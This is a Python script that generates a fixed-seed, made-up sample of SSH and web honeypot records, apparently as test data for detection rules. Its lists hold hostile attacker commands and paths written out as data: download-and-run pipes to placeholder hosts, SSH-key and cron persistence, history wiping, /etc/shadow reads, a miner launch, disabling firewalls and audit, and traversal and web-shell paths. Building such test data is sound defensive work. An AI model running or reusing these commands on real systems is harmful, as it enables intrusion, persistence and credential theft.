#!/usr/bin/env python3
"""Makes examples/data/honeypot.jsonl: what visitors of an SSH and a web honeypot typed, one record a line.

    examples/rules/make_sample.py > examples/data/honeypot.jsonl

The same every time (a fixed seed). All of it is made up: addresses are those of RFC 5737, names those of RFC 2606.
"""

import datetime
import json
import random

SEED = 20261121
COUNT = 200

ORDINARY = ["ls -la", "pwd", "whoami", "cd /tmp", "df -h", "ps aux", "w", "exit", "cat README", "id", "ls /var/www",
            "echo hello", "date", "uptime", "crontab -l", "which wget", "cd /var/run; ls", "top -bn1 | head"]
HOSTILE = [
    "wget -q http://{host}/{name}.sh -O- | sh",
    "curl -s http://{host}/{name} | sudo bash",
    "cd /tmp; wget http://{host}/{name}; chmod 777 {name}; ./{name}",
    "tftp -g -r {name} {host}; chmod +x {name}; ./{name} ssh",
    "mkdir -p ~/.ssh; echo 'ssh-rsa AAAA{name} a@b' >> ~/.ssh/authorized_keys",
    "(crontab -l; echo '* * * * * /tmp/{name}') | crontab -",
    "echo '@hourly root /tmp/{name}' > /etc/cron.d/{name}",
    "history -c; rm -f ~/.bash_history",
    "unset HISTFILE; uname -a",
    "cat /etc/passwd",
    "cat /etc/shadow | grep root",
    "uname -s -v -n -r -m",
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m | grep Mem; nproc",
    "pkill -9 xmrig; ./XMRig -o stratum+tcp://{host}:3333 -u {name}",
    "iptables -F; setenforce 0",
    "systemctl stop auditd; ufw disable",
]
INJECTED = ["cat /etc/passwd", "id", "wget http://{host}/{name}.sh -O- | sh", "curl http://{host}/{name} -o x; chmod +x x"]
ORDINARY_PATHS = ["/", "/robots.txt", "/login", "/favicon.ico", "/index.php", "/api/status", "/wp-login.php"]
HOSTILE_PATHS = ["/../../../../etc/passwd", "/cgi-bin/%2e%2e/%2e%2e/bin/sh", "/static/..%2f.%2e/.%2e/secret",
                 "/uploads/{name}.php?cmd=id", "/images/x.jsp?a=1&exec=whoami"]
AGENTS = ["Mozilla/5.0 (X11; Linux x86_64)", "curl/7.88.1", "Mozilla/5.0 zgrab/0.x", "sqlmap/1.7 (https://sqlmap.example)",
          "Mozilla/5.0 (compatible; Googlebot/2.1)", "python-requests/2.28", "Nikto/2.5"]
NAMES = ["arm7", "mips", "bot", "x86", "kswapd", "update", "sshd2"]


def pick(random_, choices):
    host = f"198.51.100.{random_.randrange(1, 255)}"
    return random_.choice(choices).format(host=host, name=random_.choice(NAMES))


def of_shell(random_):
    return {"command": pick(random_, HOSTILE if random_.random() < 0.5 else ORDINARY)}


def of_web(random_):
    record = {"request": {"method": "GET", "path": pick(random_, HOSTILE_PATHS if random_.random() < 0.3 else ORDINARY_PATHS),
                          "agent": random_.choice(AGENTS)}}
    if random_.random() < 0.25:
        # What the honeypot found in the body and would have run.
        record["request"]["method"] = "POST"
        record["command"] = pick(random_, INJECTED)
    return record


def main():
    random_ = random.Random(SEED)
    moment = datetime.datetime(2026, 11, 21, 3, 0, tzinfo=datetime.timezone.utc)
    for number in range(COUNT):
        moment += datetime.timedelta(milliseconds=random_.randrange(1, 20_000))
        kind = "ssh" if random_.random() < 0.6 else "web"
        record = {"id": f"hp-{number:04}", "time": moment.isoformat(timespec="milliseconds").replace("+00:00", "Z"),
                  "kind": kind, "source": f"203.0.113.{random_.randrange(1, 255)}",
                  **(of_shell if kind == "ssh" else of_web)(random_)}
        print(json.dumps(record, separators=(",", ":")))


if __name__ == "__main__":
    main()
